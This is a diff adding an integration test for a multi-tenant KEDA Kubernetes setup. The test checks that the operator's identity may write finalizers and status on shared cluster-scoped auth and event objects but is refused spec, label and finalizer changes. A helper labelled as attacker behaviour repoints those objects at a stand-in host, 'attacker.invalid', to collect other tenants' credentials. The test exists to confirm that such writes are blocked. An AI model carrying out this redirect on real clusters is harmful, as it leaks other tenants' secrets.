@@ -13,8 +13,9 @@ from __future__ import annotations
 
 import json
 import re
+import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
@@ -183,8 +184,8 @@ def bindings(stack: Stack) -> set[str]:
     }
 
 
-def hpa_exists(stack: Stack, namespace: str) -> bool:
-    return stack.kubectl("get", "hpa", "keda-hpa-app", "-n", namespace, check=False).returncode == 0
+def hpa_exists(stack: Stack, namespace: str, name: str = "keda-hpa-app") -> bool:
+    return stack.kubectl("get", "hpa", name, "-n", namespace, check=False).returncode == 0
 
 
 def watched(stack: Stack) -> dict[str, str]:
@@ -269,3 +270,210 @@ def test_deleting_a_tenant_namespace_completes_under_namespaced_rbac(
     assert "lp-three" not in bindings(stack)
     wait_for(lambda: watched(stack) == {tenant["pod"]: "lp-one"}, "lp-three unwatched", 60, 1)
     assert forbidden_lines(operator) == []
+
+
+CTA = "lp-shared-auth"
+CCES = "lp-shared-events"
+OPERATOR_USER = f"system:serviceaccount:{KEDA_NS}:keda-operator"
+
+
+def as_operator(
+    stack: Stack, *args: str, stdin: str | None = None
+) -> subprocess.CompletedProcess[str]:
+    return stack.kubectl(*args, f"--as={OPERATOR_USER}", check=False, stdin=stdin)
+
+
+def get_json(stack: Stack, kind: str, name: str, namespace: str | None = None) -> dict[str, Any]:
+    where = ["-n", namespace] if namespace else []
+    done = stack.kubectl("get", kind, name, *where, "-o", "json")
+    result: dict[str, Any] = json.loads(done.stdout)
+    return result
+
+
+def ready(stack: Stack, namespace: str, name: str) -> bool:
+    conditions = (
+        get_json(stack, "scaledobject", name, namespace).get("status", {}).get("conditions")
+    )
+    return any(c["type"] == "Ready" and c["status"] == "True" for c in conditions or [])
+
+
+def test_shared_cluster_objects_are_used_without_forbidden_and_their_spec_is_refused(
+    stack: Stack, tenant: dict[str, Any], sources: dict[str, MetricSource]
+) -> None:
+    """Issue 20: every tenant's KEDA shares the ClusterTriggerAuthentications and
+    ClusterCloudEventSources. The chart grants what the real KEDA writes on them (its finalizer
+    by update, status by patch): a ScaledObject that uses one gets Ready with no `forbidden` in
+    KEDA's log. Anything else the operator's identity tries on one (a new spec, a label, a
+    merge patch) is refused; on main it could redirect one to collect others' credentials."""
+    operator: Process = tenant["operator"]
+    stack.apply(
+        {
+            "apiVersion": "keda.sh/v1alpha1",
+            "kind": "ClusterTriggerAuthentication",
+            "metadata": {"name": CTA},
+            # From the scale target's env: a Secret in KEDA's namespace (secretTargetRef) is not
+            # in the cache of a KEDA that watches only its tenant's namespaces.
+            "spec": {"env": [{"parameter": "token", "name": "TOKEN", "containerName": "app"}]},
+        },
+        {
+            "apiVersion": "eventing.keda.sh/v1alpha1",
+            "kind": "ClusterCloudEventSource",
+            "metadata": {"name": CCES},
+            # Nothing listens there: KEDA only has to reconcile it.
+            "spec": {"destination": {"http": {"uri": "http://127.0.0.1:9/events"}}},
+        },
+    )
+    stack.scaled_app("lp-one", sources["alpha"].url, name="cta-app")
+    stack.kubectl(
+        "patch",
+        "deployment",
+        "cta-app",
+        "-n",
+        "lp-one",
+        "--type=json",
+        "-p",
+        json.dumps(
+            [
+                {
+                    "op": "add",
+                    "path": "/spec/template/spec/containers/0/env",
+                    "value": [{"name": "TOKEN", "value": "not-a-secret"}],
+                }
+            ]
+        ),
+    )
+    stack.kubectl(
+        "patch",
+        "scaledobject",
+        "cta-app",
+        "-n",
+        "lp-one",
+        "--type=json",
+        "-p",
+        json.dumps(
+            [
+                {"op": "add", "path": "/spec/triggers/0/metadata/authMode", "value": "bearer"},
+                {
+                    "op": "add",
+                    "path": "/spec/triggers/0/authenticationRef",
+                    "value": {"name": CTA, "kind": "ClusterTriggerAuthentication"},
+                },
+            ]
+        ),
+    )
+    wait_for(lambda: ready(stack, "lp-one", "cta-app"), "cta-app Ready", 180, 1)
+    wait_for(lambda: hpa_exists(stack, "lp-one", "keda-hpa-cta-app"), "HPA of cta-app", 60, 1)
+    # What KEDA writes on them went through: its finalizer (update) and status (patch).
+    wait_for(
+        lambda: (
+            "finalizer.keda.sh"
+            in get_json(stack, "clustertriggerauthentication", CTA)["metadata"].get(
+                "finalizers", []
+            )
+        ),
+        "KEDA's finalizer on the ClusterTriggerAuthentication",
+        60,
+        1,
+    )
+    wait_for(
+        lambda: (
+            "cta-app"
+            in get_json(stack, "clustertriggerauthentication", CTA)
+            .get("status", {})
+            .get("scaledobjects", "")
+        ),
+        "the ClusterTriggerAuthentication's status names cta-app",
+        60,
+        1,
+    )
+    wait_for(
+        lambda: (
+            "finalizer.keda.sh"
+            in get_json(stack, "clustercloudeventsource", CCES)["metadata"].get("finalizers", [])
+            and bool(
+                get_json(stack, "clustercloudeventsource", CCES).get("status", {}).get("conditions")
+            )
+        ),
+        "KEDA's finalizer and conditions on the ClusterCloudEventSource",
+        60,
+        1,
+    )
+    assert forbidden_lines(operator) == []
+
+    for kind, name in (("clustertriggerauthentication", CTA), ("clustercloudeventsource", CCES)):
+        assert can_i_cluster(stack, "patch", kind) == "no"
+        merge = as_operator(
+            stack, "patch", kind, name, "--type=merge", "-p", '{"spec":{"podIdentity":null}}'
+        )
+        assert merge.returncode != 0
+        assert "forbidden" in merge.stderr.lower(), merge.stderr
+        for change in (_redirect, _relabel, _other_finalizer):
+            refused = refused_update(stack, kind, name, change)
+            assert "denied request" in refused or "forbidden" in refused.lower(), refused
+        before = get_json(stack, kind, name)
+        # Through /status a spec change is dropped by the API server.
+        as_operator(
+            stack,
+            "patch",
+            kind,
+            name,
+            "--subresource=status",
+            "--type=merge",
+            "-p",
+            json.dumps({"spec": _redirect(json.loads(json.dumps(before)))["spec"]}),
+        )
+        assert get_json(stack, kind, name)["spec"] == before["spec"]
+    # Deleted: KEDA removes its finalizer (an update the policy allows) and they go.
+    stack.kubectl("delete", "scaledobject", "cta-app", "-n", "lp-one")
+    for kind, name in (("clustertriggerauthentication", CTA), ("clustercloudeventsource", CCES)):
+        stack.kubectl("delete", kind, name, "--wait=false")
+        wait_for(gone(stack, kind, name), f"{kind} {name} gone", 60, 1)
+    assert forbidden_lines(operator) == []
+
+
+def refused_update(
+    stack: Stack, kind: str, name: str, change: Callable[[dict[str, Any]], dict[str, Any]]
+) -> str:
+    """Update `kind/name` as the operator with `change` applied; the refusal's message. KEDA
+    patches status meanwhile, so a conflict is retried on a fresh copy."""
+    for _ in range(10):
+        done = as_operator(
+            stack, "replace", "-f", "-", stdin=json.dumps(change(get_json(stack, kind, name)))
+        )
+        assert done.returncode != 0, (kind, change.__name__, done.stdout)
+        if "the object has been modified" not in done.stderr:
+            return done.stderr
+    raise AssertionError(f"{kind}/{name} kept changing: {done.stderr}")
+
+
+def gone(stack: Stack, kind: str, name: str) -> Callable[[], bool]:
+    return lambda: stack.kubectl("get", kind, name, check=False).returncode != 0
+
+
+def can_i_cluster(stack: Stack, verb: str, resource: str) -> str:
+    done = stack.kubectl("auth", "can-i", verb, resource, f"--as={OPERATOR_USER}", check=False)
+    return done.stdout.strip()
+
+
+def _redirect(obj: dict[str, Any]) -> dict[str, Any]:
+    """What an attacker would do: point the shared object somewhere it controls."""
+    if obj["kind"] == "ClusterTriggerAuthentication":
+        obj["spec"]["hashiCorpVault"] = {
+            "address": "http://attacker.invalid:8200",
+            "authentication": "token",
+            "credential": {"token": "x"},
+            "secrets": [{"parameter": "token", "key": "token", "path": "secret/data/x"}],
+        }
+    else:
+        obj["spec"]["destination"] = {"http": {"uri": "http://attacker.invalid/collect"}}
+    return obj
+
+
+def _relabel(obj: dict[str, Any]) -> dict[str, Any]:
+    obj["metadata"].setdefault("labels", {})["owned-by"] = "lp"
+    return obj
+
+
+def _other_finalizer(obj: dict[str, Any]) -> dict[str, Any]:
+    obj["metadata"].setdefault("finalizers", []).append("example.com/hold")
+    return obj
